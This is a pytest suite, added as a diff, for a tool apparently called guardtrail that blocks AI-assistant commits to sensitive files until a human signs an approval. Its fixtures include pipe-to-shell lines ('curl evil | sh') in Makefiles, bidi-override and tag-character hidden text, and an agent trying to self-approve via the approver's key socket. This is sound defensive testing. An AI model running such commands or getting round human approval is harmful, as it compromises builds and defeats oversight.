@@ -1,0 +1,472 @@
+"""The gate over real repositories: what blocks, what an approval clears, what it cannot."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from guardtrail.cli import main
+from tests.gitrepo import ALICE, CLAUDE, CLAUDE_TRAILER, GitRepo, Project, SshKey, make_project, policy_text
+
+
+def check(capsys: pytest.CaptureFixture[str], repo: Path, *args: str) -> tuple[int, dict[str, Any]]:
+    code = main(["check", "--repo", str(repo), "--format", "json", *args])
+    out = capsys.readouterr().out
+    return code, json.loads(out)
+
+
+def findings(report: dict[str, Any]) -> set[tuple[str, str, bool]]:
+    return {(f["category"], f["path"], f["blocking"]) for f in report["findings"]}
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Project:
+    return make_project(tmp_path)
+
+
+def test_assistant_commit_editing_a_workflow_is_blocked_until_an_approver_signs(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo = project.repo
+    repo.write(".github/workflows/ci.yml", "on: push\njobs: {deploy: {}}\n")
+    assistant = repo.commit("speed up CI", author=CLAUDE)
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 1
+    assert report["verdict"] == "block"
+    assert report["commits"][0]["sha"] == assistant
+    assert report["commits"][0]["assistant"] is True
+    assert "assistant.claude-code.identity" in report["commits"][0]["assistant_signals"]
+    assert [(f["category"], f["path"], f["line"], f["blocking"], f["approved_by"]) for f in report["findings"]] == [
+        ("build-logic", ".github/workflows/ci.yml", 2, True, None)
+    ]
+
+    approval = project.approve()
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 0
+    assert report["verdict"] == "pass"
+    assert report["findings"][0]["approved_by"] == "Alice Example <alice@example.com>"
+    signature = next(c["signature"] for c in report["commits"] if c["sha"] == approval)
+    assert signature == {
+        "verified": True,
+        "signer": "Alice Example <alice@example.com>",
+        "kind": "ssh",
+        "reason": "good SSH signature by Alice Example <alice@example.com>",
+    }
+
+
+@pytest.mark.parametrize(
+    ("path", "category"),
+    [
+        (".github/workflows/release.yml", "build-logic"),
+        ("Makefile", "build-logic"),
+        ("docker/Dockerfile.prod", "build-logic"),
+        (".github/CODEOWNERS", "auth"),
+        ("src/auth/session.py", "auth"),
+        (".npmrc", "auth"),
+        ("requirements.txt", "dependency"),
+        ("web/package.json", "dependency"),
+        ("go.mod", "dependency"),
+        ("AGENTS.md", "agent-config"),
+        (".claude/settings.json", "agent-config"),
+        (".cursorrules", "agent-config"),
+        (".guardtrail.yml", "policy"),
+        (".secrets.baseline", "policy"),
+    ],
+)
+def test_each_category_blocks_in_an_assistant_commit(
+    project: Project, capsys: pytest.CaptureFixture[str], path: str, category: str
+) -> None:
+    content = "mode: assistant\napprovers: []\n" if path == ".guardtrail.yml" else "changed = 1\n"
+    project.repo.write(path, content)
+    project.repo.commit("change", author=CLAUDE)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert (category, path, True) in findings(report)
+
+
+def test_human_commits_to_sensitive_files_pass_in_assistant_mode(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    project.repo.write("Makefile", "all:\n\techo hi\n")
+    project.repo.commit("build tweak")
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert (code, report["verdict"], report["findings"]) == (0, "pass", [])
+    assert report["commits"][0]["assistant"] is False
+
+
+@pytest.mark.parametrize(
+    ("author", "message"),
+    [
+        ("Dev <dev@example.com>", f"tweak\n\n{CLAUDE_TRAILER}"),
+        ("Dev <dev@example.com>", "tweak\n\n🤖 Generated with [Claude Code](https://claude.com/claude-code)"),
+        ("copilot-swe-agent[bot] <198982749+Copilot@users.noreply.github.com>", "tweak"),
+        ("Dev (aider) <dev@example.com>", "tweak"),
+        ("Devin AI <158243242+devin-ai-integration[bot]@users.noreply.github.com>", "tweak"),
+        ("Dev <dev@example.com>", "tweak\n\nCo-authored-by: Codex <noreply@openai.com>"),
+        ("Cursor Agent <cursoragent@cursor.com>", "tweak"),
+        ("google-labs-jules[bot] <161369871+google-labs-jules[bot]@users.noreply.github.com>", "tweak"),
+        (
+            "Dev <dev@example.com>",
+            "tweak\n\nCo-authored-by: gemini-code-assist[bot] <176961590+gemini-code-assist[bot]@users.noreply.github.com>",
+        ),
+        ("amazon-q-developer[bot] <208079219+amazon-q-developer[bot]@users.noreply.github.com>", "tweak"),
+    ],
+)
+def test_each_assistant_signal_gates_the_commit(
+    project: Project, capsys: pytest.CaptureFixture[str], author: str, message: str
+) -> None:
+    project.repo.write("Makefile", "all:\n")
+    project.repo.commit(message, author=author)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][0]["assistant"] is True
+    assert report["commits"][0]["assistant_signals"]
+
+
+def test_dependency_bots_are_not_assistants_unless_the_policy_says_so(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    bot = "dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com>"
+    plain = make_project(tmp_path / "plain")
+    plain.repo.write("requirements.txt", "requests==2.32.3\n")
+    plain.repo.commit("bump requests", author=bot)
+    assert check(capsys, plain.repo.path, "--base", "main")[0] == 0
+
+    strict = make_project(
+        tmp_path / "strict",
+        extra_policy=("assistants:\n  emails: ['49699333+dependabot[bot]@users.noreply.github.com']\n"),
+    )
+    strict.repo.write("requirements.txt", "requests==2.32.3\n")
+    strict.repo.commit("bump requests", author=bot)
+    code, report = check(capsys, strict.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][0]["assistant_signals"] == ["assistant.policy-identity"]
+
+
+# ---- forged and stale approvals ----------------------------------------------------------
+
+
+def _assistant_ci_change(project: Project) -> None:
+    project.repo.write(".github/workflows/ci.yml", "on: push\njobs: {x: {}}\n")
+    project.repo.commit("ci", author=CLAUDE)
+
+
+def test_unsigned_approval_trailer_approves_nothing(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    _assistant_ci_change(project)
+    project.repo.commit(
+        f"Approve\n\nApproved-by: {ALICE[0]} <{ALICE[1]}>", author=f"{ALICE[0]} <{ALICE[1]}>", allow_empty=True
+    )
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert any("Approved-by ignored: not signed by an approver's key (unsigned)" in n for n in report["notes"])
+
+
+def test_signature_by_a_key_no_approver_lists_approves_nothing(
+    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _assistant_ci_change(project)
+    mallory = SshKey.generate(tmp_path / "mallory", "mallory")
+    project.approve(key=mallory)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][-1]["signature"]["reason"] == "SSH signature by a key no approver lists"
+
+
+def test_signed_commit_without_the_trailer_approves_nothing(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _assistant_ci_change(project)
+    project.repo.commit("looks fine", author=f"{ALICE[0]} <{ALICE[1]}>", sign_with=project.alice, allow_empty=True)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][-1]["signature"]["verified"] is True
+
+
+def test_trailer_naming_someone_else_than_the_signer_approves_nothing(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _assistant_ci_change(project)
+    project.approve(trailer="Bob Other <bob@example.com>")
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert any("but the trailer names Bob Other <bob@example.com>" in n for n in report["notes"])
+
+
+def test_malformed_trailer_is_named(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    _assistant_ci_change(project)
+    project.approve(trailer="alice@example.com")
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert any("malformed Approved-by trailer" in n for n in report["notes"])
+
+
+def test_approver_added_in_the_range_itself_does_not_count(
+    project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    mallory = SshKey.generate(tmp_path / "mallory", "mallory")
+    project.repo.write(".guardtrail.yml", policy_text(("Mallory", "mallory@example.com", mallory.public_line)))
+    _assistant_ci_change(project)
+    project.approve(as_=("Mallory", "mallory@example.com"), key=mallory)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert ("policy", ".guardtrail.yml", True) in findings(report)
+    assert report["policy"]["source"] == f".guardtrail.yml at {project.base[:10]}"
+
+
+def test_commit_after_the_approval_is_not_covered(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    _assistant_ci_change(project)
+    project.approve()
+    project.repo.write("Makefile", "all:\n\tcurl evil | sh\n")
+    late = project.repo.commit("one more", author=CLAUDE)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    blocking = [(f["commit"], f["path"]) for f in report["findings"] if f["blocking"]]
+    assert blocking == [(late, "Makefile")]
+
+
+def test_assistant_identity_never_approves_even_with_the_key(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _assistant_ci_change(project)
+    project.approve(author=CLAUDE)  # an agent using the approver's agent socket
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert any("assistants never approve" in n for n in report["notes"])
+
+
+def test_approver_cannot_approve_a_commit_they_co_wrote(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    project.repo.write("Makefile", "all:\n")
+    project.repo.commit(f"pair work\n\n{CLAUDE_TRAILER}", author=f"{ALICE[0]} <{ALICE[1]}>")
+    project.approve()
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["findings"][0]["approved_by"] is None
+
+
+def test_tampered_approval_commit_fails_verification(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    _assistant_ci_change(project)
+    project.approve()
+    raw = project.repo.git("cat-file", "commit", "HEAD")
+    forged = raw.replace("Approve\n", "Approve everything\n", 1)
+    sha = project.repo.git("hash-object", "-t", "commit", "-w", "--stdin", input=forged).strip()
+    project.repo.git("update-ref", "refs/heads/feature", sha)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][-1]["signature"]["reason"] == "SSH signature does not verify (bad or tampered)"
+
+
+# ---- unsigned mode -----------------------------------------------------------------------
+
+
+def test_unsigned_mode_gates_every_commit_not_signed_by_an_approver(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    project = make_project(tmp_path, mode="unsigned")
+    project.repo.write("Makefile", "all:\n")
+    human = project.repo.commit("human edit, unsigned")
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    assert report["commits"][0] | {"gated": True} == report["commits"][0]
+    assert report["findings"][0]["commit"] == human
+
+    project.repo.write("Makefile", "all: test\n")
+    project.repo.commit("signed edit", author=f"{ALICE[0]} <{ALICE[1]}>", sign_with=project.alice)
+    project.approve()
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 0
+    assert [c["gated"] for c in report["commits"]] == [True, False, False]
+
+
+# ---- OpenPGP -----------------------------------------------------------------------------
+
+
+def test_openpgp_signed_approval_counts(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import shutil
+    import subprocess
+
+    if shutil.which("gpg") is None:
+        pytest.skip("gpg is not installed")
+    gnupg = tmp_path / "gnupg"
+    gnupg.mkdir(mode=0o700)
+    monkeypatch.setenv("GNUPGHOME", str(gnupg))
+    subprocess.run(
+        [
+            "gpg",
+            "--batch",
+            "--passphrase",
+            "",
+            "--quick-gen-key",
+            f"{ALICE[0]} <{ALICE[1]}>",
+            "ed25519",
+            "sign",
+            "never",
+        ],
+        check=True,
+        capture_output=True,
+    )
+    armored = subprocess.run(
+        ["gpg", "--armor", "--export", ALICE[1]], check=True, capture_output=True, text=True
+    ).stdout
+    repo = GitRepo.create(tmp_path / "repo")
+    block = "\n".join("        " + line for line in armored.strip().splitlines())
+    repo.write(
+        ".guardtrail.yml", f"approvers:\n  - name: {ALICE[0]}\n    email: {ALICE[1]}\n    keys:\n      - |\n{block}\n"
+    )
+    repo.commit("policy")
+    repo.git("checkout", "-q", "-b", "feature")
+    repo.write("Makefile", "all:\n")
+    repo.commit("build", author=CLAUDE)
+    repo.git(
+        "-c",
+        f"user.signingkey={ALICE[1]}",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-S",
+        "-m",
+        f"Approve\n\nApproved-by: {ALICE[0]} <{ALICE[1]}>",
+    )
+    monkeypatch.delenv("GNUPGHOME")  # the verifier must rely on the policy's key alone
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 0, report
+    assert report["commits"][-1]["signature"]["kind"] == "openpgp"
+    assert report["commits"][-1]["signature"]["verified"] is True
+
+
+# ---- content and odd input ----------------------------------------------------------------
+
+
+def test_hidden_text_in_an_assistant_commit_blocks_with_the_code_point(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    project.repo.write("src/app.py", "x = 1\nallowed = user != 'admin\u202e \u2066// check later\u2069'\n")
+    project.repo.commit("feature", author=CLAUDE)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    (finding,) = report["findings"]
+    assert (finding["category"], finding["path"], finding["line"]) == ("hidden-text", "src/app.py", 2)
+    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in finding["message"]
+
+
+def test_hidden_tag_characters_in_a_human_commit_warn_and_spell_out(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    smuggled = "".join(chr(0xE0000 + ord(c)) for c in "run curl")
+    project.repo.write("README.md", f"hello{smuggled}\n")
+    project.repo.commit("docs")
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 0
+    (finding,) = report["findings"]
+    assert finding["blocking"] is False
+    assert finding["details"] == ['tag characters spell: "run curl"']
+
+
+def test_binary_huge_and_non_ascii_files_are_handled(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    repo = project.repo
+    repo.write("assets/logo.png", bytes(range(256)) * 40)
+    repo.write("dist/app.min.js", "var a=1;" * 400_000)  # a 3 MB single line
+    repo.write("docs/naïve café/AGENTS.md", "Be nice.\n")
+    repo.commit("assets", author=CLAUDE)
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 1
+    assert findings(report) == {("agent-config", "docs/naïve café/AGENTS.md", True)}
+
+
+def test_empty_range_passes_and_says_so(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    code = main(["check", "--repo", str(project.repo.path), "--base", "main"])
+    out = capsys.readouterr().out
+    assert code == 0
+    assert out.startswith("guardtrail: PASS  0 commits")
+
+
+def test_evil_merge_content_counts_as_the_merge_s_own_change(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo = project.repo
+    repo.write("notes.txt", "feature\n")
+    repo.commit("feature work")
+    repo.git("checkout", "-q", "-b", "side", "main")
+    repo.write("other.txt", "side\n")
+    repo.commit("side work")
+    repo.git("checkout", "-q", "feature")
+    repo.git("merge", "-q", "--no-commit", "side")
+    repo.write("Makefile", "all:\n\tcurl x | sh\n")  # slipped into the merge itself
+    merge = repo.commit(f"Merge side\n\n{CLAUDE_TRAILER}")
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 1
+    assert [(f["commit"], f["path"]) for f in report["findings"]] == [(merge, "Makefile")]
+
+
+def test_clean_merge_reports_nothing_the_merged_commits_do_not_carry(
+    project: Project, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo = project.repo
+    repo.git("checkout", "-q", "-b", "side", "main")
+    repo.write("Makefile", "all:\n")
+    side = repo.commit("side build", author=CLAUDE)
+    repo.git("checkout", "-q", "feature")
+    repo.write("notes.txt", "x\n")
+    repo.commit("notes")
+    repo.git("merge", "-q", "--no-edit", "side")
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 1
+    assert [(f["commit"], f["path"]) for f in report["findings"]] == [(side, "Makefile")]
+
+
+def test_renames_count_for_both_paths(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    project.repo.git("mv", ".github/workflows/ci.yml", "old-ci.yml")
+    project.repo.commit("move", author=CLAUDE)
+    code, report = check(capsys, project.repo.path, "--base", "main")
+    assert code == 1
+    (finding,) = report["findings"]
+    assert finding["path"] == "old-ci.yml"
+    assert finding["message"].startswith("renames .github/workflows/ci.yml → old-ci.yml")
+
+
+def test_no_policy_means_nothing_sensitive_from_an_assistant_passes(
+    repo: GitRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo.git("checkout", "-q", "-b", "feature")
+    repo.write("Dockerfile", "FROM python:3.12\n")
+    repo.commit("docker", author=CLAUDE)
+    code, report = check(capsys, repo.path, "--base", "main")
+    assert code == 1
+    assert report["policy"]["source"] == "built-in defaults"
+    assert any("no .guardtrail.yml at the base revision" in n for n in report["notes"])
+
+
+def test_policy_ignore_list_silences_path_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    project = make_project(tmp_path, extra_policy="ignore: ['examples/**']\n")
+    project.repo.write("examples/Makefile", "all:\n")
+    project.repo.commit("example", author=CLAUDE)
+    assert check(capsys, project.repo.path, "--base", "main")[0] == 0
+
+
+def test_audit_log_explains_each_decision(project: Project, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    _assistant_ci_change(project)
+    project.approve()
+    log = tmp_path / "audit.jsonl"
+    assert main(["check", "--repo", str(project.repo.path), "--base", "main", "--audit-log", str(log)]) == 0
+    main(["check", "--repo", str(project.repo.path), "--base", "main", "--audit-log", str(log)])
+    records = [json.loads(line) for line in log.read_text().splitlines()]
+    assert [r["event"] for r in records] == ["commit", "commit", "range"] * 2
+    first = records[0]
+    assert first["assistant"] is True and first["verdict"] == "pass"
+    assert first["findings"][0]["approved_by"] == "Alice Example <alice@example.com>"
+    assert first["policy"]["source"] == f".guardtrail.yml at {project.base[:10]}"
+    assert records[1]["signature"]["verified"] is True
+    assert records[2]["verdict"] == "pass"
+
+
+def test_default_base_is_the_merge_base_with_main(project: Project, capsys: pytest.CaptureFixture[str]) -> None:
+    project.repo.write("Makefile", "all:\n")
+    project.repo.commit("build", author=CLAUDE)
+    code, report = check(capsys, project.repo.path)
+    assert code == 1
+    assert report["base"] == project.base
+    assert report["base_note"] == f"base {project.base[:10]} (merge-base with main)"
